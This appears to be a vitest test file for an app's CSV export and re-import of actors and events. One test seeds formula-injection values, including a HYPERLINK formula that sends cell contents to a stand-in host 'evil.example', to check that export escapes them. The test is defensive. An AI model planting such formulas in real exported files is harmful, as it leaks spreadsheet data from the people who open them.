import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { createEntity, listEntities } from "@/lib/entities/queries";
import { actorInput, eventInput } from "@/lib/entities/validation";
import { tagsOfEntities } from "@/lib/tags/queries";
import { useTestDatabase } from "@/lib/testing/database";
import { buildTeam } from "@/lib/testing/factories";
import { applyImport } from "../entity-import";
import { exportEntitiesCsv } from "./export";
import { guessMapping } from "./fields";
import { parseCsv } from "./parse";
import { readCsvText } from "./read";

useTestDatabase();

const actor = (fields: Record<string, unknown>) => ({ kind: "actor" as const, ...actorInput.parse(fields) });
const event = (fields: Record<string, unknown>) => ({ kind: "event" as const, ...eventInput.parse(fields) });
const reimport = (text: string, kind: "actor" | "event") => readCsvText(text, guessMapping(parseCsv(text).headers), kind);

/** What a team holds of a kind, every field the CSV carries, without ids and times. */
async function holdings(teamId: string, kind: "actor" | "event") {
  const list = await listEntities(teamId, kind);
  const tags = await tagsOfEntities(list.map((entity) => entity.id));
  return list
    .map(({ name, aliases, summary, actorType, startsOn, endsOn, datePrecision, place, latitude, longitude, countryCode, id }) => ({
      name,
      aliases,
      summary,
      actorType,
      startsOn,
      endsOn,
      datePrecision,
      place,
      latitude,
      longitude,
      countryCode,
      tags: tags.get(id) ?? [],
    }))
    .sort((a, b) => a.name.localeCompare(b.name));
}

describe("exporting actors and events as CSV", () => {
  it("neutralises cells a spreadsheet would run as formulas, and leaves numbers alone", async () => {
    const { team, owner } = await buildTeam();
    await createEntity(team.id, owner.id, actor({ name: '=HYPERLINK("https://evil.example/?"&A1,"Click")', aliases: ["+cmd", "@SUM(1)"], summary: "-2+3", tags: ["=1+1"] }));
    await createEntity(team.id, owner.id, actor({ name: "Sydney", actorType: "place", latitude: "-33.86", longitude: "151.2" }));

    const text = await exportEntitiesCsv(team.id, "actor");
    expect(text.startsWith("\uFEFFKind,Name,Aliases,Actor type,Date,End date,Precision,Place,Latitude,Longitude,Country,Tags,Summary\r\n")).toBe(true);
    const [, link, sydney] = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true }).data;
    expect(link[1]).toBe(`'=HYPERLINK("https://evil.example/?"&A1,"Click")`);
    expect(link[2]).toBe("'+cmd; @SUM(1)");
    expect(link[11]).toBe("'=1+1");
    expect(link[12]).toBe("'-2+3");
    expect(link.every((cell) => !/^[=+\-@\t\r]/.test(cell))).toBe(true);
    expect(sydney.slice(1, 4).concat(sydney.slice(8, 10))).toEqual(["Sydney", "", "place", "-33.86", "151.2"]);
  });

  it("imports back unchanged into an empty team, every field of actors and events", async () => {
    const { team, owner } = await buildTeam();
    const entries = [
      actor({ name: "Iran", aliases: ["Persia", "IRI"], actorType: "country", summary: 'A state; "quoted", with commas,\nand two lines.', tags: ["nuclear", "sanctions"], countryCode: "IR" }),
      actor({ name: "=HYPERLINK(\"x\")", aliases: ["-minus"], tags: ["@at"] }),
      actor({ name: "Sydney", actorType: "place", latitude: "-33.8688", longitude: "151.2093", countryCode: "AU" }),
      event({ name: "Nuclear test", startsOn: "2006-10-09", place: "Punggye-ri", latitude: "41.28", longitude: "129.08", tags: ["nuclear"] }),
      event({ name: "Talks", startsOn: "2006-10", endsOn: "2006-12", summary: "Six parties." }),
      event({ name: "Sanctions year", startsOn: "2006", countryCode: "KP" }),
      event({ name: "Undated" }),
    ];
    for (const input of entries) await createEntity(team.id, owner.id, input);

    const { team: empty, owner: other } = await buildTeam();
    for (const kind of ["actor", "event"] as const) {
      const parsed = reimport(await exportEntitiesCsv(team.id, kind), kind === "actor" ? "event" : "actor");
      expect(parsed.problems).toEqual([]);
      await applyImport(empty.id, other.id, parsed, "csv");
      expect(await holdings(empty.id, kind)).toEqual(await holdings(team.id, kind));
    }
    // Exported and imported back into the same team, nothing is new.
    const again = reimport(await exportEntitiesCsv(team.id, "actor"), "actor");
    await expect(applyImport(team.id, owner.id, again, "csv")).rejects.toThrow("Nothing in this file would add to the team's actors or events; nothing was imported.");
  });
});
